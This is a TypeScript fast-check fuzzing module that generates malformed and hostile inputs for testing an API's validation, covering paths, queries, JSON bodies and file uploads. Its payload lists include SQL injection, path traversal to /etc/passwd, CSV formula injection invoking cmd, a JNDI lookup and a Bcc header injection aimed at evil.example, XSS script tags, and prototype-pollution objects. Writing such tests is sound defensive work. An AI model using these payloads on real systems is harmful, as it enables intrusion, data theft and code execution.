import * as fc from "fast-check";
import { type DocumentedOperation, type Schema, sampleOf } from "./operation-samples.ts";

/**
 * Existing names, ids and months. Generated calls contain these values in addition to random ones, so that some calls
 * are valid.
 */
export type Known = {
  readonly names: readonly string[];
  readonly ids: readonly string[];
  readonly months: readonly string[];
};

/** One call that contains a hostile value. */
export type HostileCall = { readonly path: string; readonly body: unknown };

const TEXTS = [
  "",
  " ",
  "x".repeat(5_000),
  "'; drop table users; --",
  "%",
  "_%\\",
  "(a+)+$",
  "\u202Egnp.exe\u2066",
  "\uD800",
  "\uDC00 after",
  `${"n".repeat(498)}\u{1F600}`,
  "a\u0000b",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "../../../etc/passwd",
  "..\\..\\secret.key",
  '=HYPERLINK("http://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "<script>alert(1)</script>",
  "$" + "{jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "NaN",
  "Infinity",
  "-0",
  "1e999",
  "null",
  "2026-13",
  "9999-12",
  "0000-01",
  "2026-02-30",
  "\r\nBcc: victim@evil.example",
];
const NUMBERS = [
  0,
  -0,
  -1,
  1,
  0.1,
  12,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  -(2 ** 53),
  1e15,
  1e21,
  1e308,
  -1e308,
  5e-324,
];
const deep = (levels: number) => JSON.parse(`${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`) as unknown;
const NONSENSE: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[[]]],
  ["Rent", "Rent", "Rent"],
  { length: 1e9 },
  { toJSON: 1, toString: 1 },
  JSON.parse('{"__proto__":{"isAdmin":true}}'),
  JSON.parse('{"then":1}'),
  { constructor: { prototype: { isAdmin: true } } },
  deep(15),
  deep(200),
];

const nonsense = fc.oneof(fc.constantFrom(...TEXTS), fc.constantFrom(...NUMBERS), fc.constantFrom(...NONSENSE));

/**
 * Creates values for a schema. Most match it, so that a call reaches the code after validation;
 * some do not.
 */
function valueFor(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 5, arbitrary: fitting(schema, known) }, { weight: 1, arbitrary: nonsense });
}

function fitting(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((one) => fitting(one, known)));
  switch (schema.type) {
    case "object":
      return objectFor(schema, known);
    case "array":
      return fc
        .array(valueFor(schema.items ?? {}, known), { maxLength: 4 })
        .map((list) => [...list, ...list.slice(0, 1)]);
    case "integer":
    case "number":
      return fc.oneof(fc.constantFrom(...NUMBERS), fc.integer({ min: 0, max: 130 }));
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    default:
      return textFor(schema, known);
  }
}

function objectFor(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  const { properties = {}, propertyNames, additionalProperties } = schema;
  if (typeof additionalProperties === "object") {
    const keys = fc.oneof(textFor(propertyNames ?? {}, known), fc.constantFrom(...TEXTS));
    return fc.dictionary(keys, valueFor(additionalProperties, known), { maxKeys: 4 });
  }
  const parts = Object.entries(properties).map(([name, part]) => {
    const given = valueFor(part, known).map((value): [string, unknown][] => [[name, value]]);
    const left = fc.constant<[string, unknown][]>([]);
    const isNeeded = schema.required?.includes(name) ?? false;
    return fc.oneof({ weight: isNeeded ? 12 : 1, arbitrary: given }, { weight: 1, arbitrary: left });
  });
  return fc.tuple(...parts).map((entries) => Object.fromEntries(entries.flat()));
}

function textFor(schema: Schema, { names, ids, months }: Known): fc.Arbitrary<string> {
  if (schema.format === "uuid") return fc.constantFrom(...ids);
  if (schema.format === "date") return fc.constantFrom("2026-01-31", "0001-01-01", "9999-12-31");
  if (schema.pattern?.includes("0[1-9]")) return fc.constantFrom(...months);
  const sample = String(sampleOf(schema));
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...names, sample) },
    { weight: 2, arbitrary: fc.constantFrom(...TEXTS) },
  );
}

/** Creates calls of an operation with hostile values in path, query and body. */
export function hostileCalls(operation: DocumentedOperation, known: Known): fc.Arbitrary<HostileCall> {
  return fc.tuple(hostilePath(operation, known), hostileBody(operation, known)).map(([path, body]) => ({ path, body }));
}

function hostilePath(operation: DocumentedOperation, known: Known): fc.Arbitrary<string> {
  const values = operation.parameters.map(({ name, in: where, schema }) => {
    const value = valueFor(schema, known).map((one) => (typeof one === "object" ? JSON.stringify(one) : String(one)));
    return value.map((text) => ({ name, where, text: encodeURIComponent(text.toWellFormed()) }));
  });
  const ending = fc.constantFrom(
    "",
    "",
    "",
    "?page=1&page=2",
    "?a[b][c]=1&a[999999999]=2",
    "?__proto__[x]=1",
    "?%E0%A4%A",
  );
  return fc.tuple(fc.tuple(...values), ending).map(([given, end]) => {
    const path = given
      .filter(({ where }) => where === "path")
      .reduce((sofar, { name, text }) => sofar.replace(`{${name}}`, text || "%20"), operation.path as string);
    const query = given.filter(({ where }) => where === "query").map(({ name, text }) => `${name}=${text}`);
    return query.length > 0 ? `${path}?${query.join("&")}` : path + end;
  });
}

const BROKEN = [
  "",
  "{ broken",
  '{"a":NaN}',
  "[]",
  "null",
  '"text"',
  '{"a":1,"a":2}',
  `${"[".repeat(2_000)}`,
  "\uFEFF{}",
];
const FILES = [
  new File([], "empty.csv"),
  new File(["%PDF-1.4 \u0000 not really"], "../../a.pdf"),
  new File(["<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"], "a.svg", { type: "image/png" }),
  new File([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13])], "cut.png"),
  new File([new Uint8Array([0x50, 0x4b, 3, 4, 0xff, 0xff, 0xff, 0xff])], "cut.xlsx"),
  new File(["Account,2025-01\n=cmd|' /C calc'!A0,1e308\n__proto__,NaN"], "\u202Evsc.csv"),
];

function hostileBody({ body, multipart, method }: DocumentedOperation, known: Known): fc.Arbitrary<unknown> {
  if (!body || method === "GET") return fc.constant(undefined);
  const fitted = fitting(body, known);
  if (!multipart)
    return fc.oneof({ weight: 9, arbitrary: fitted }, { weight: 1, arbitrary: fc.constantFrom(...BROKEN) });
  return fc.tuple(fitted, fc.constantFrom(...FILES)).map(([fields, file]) => {
    const form = new FormData();
    for (const [name, value] of Object.entries(fields as Record<string, unknown>)) {
      if (body.properties?.[name]?.contentMediaType !== undefined) form.append(name, file);
      else form.append(name, typeof value === "object" ? JSON.stringify(value) : String(value));
    }
    return form;
  });
}
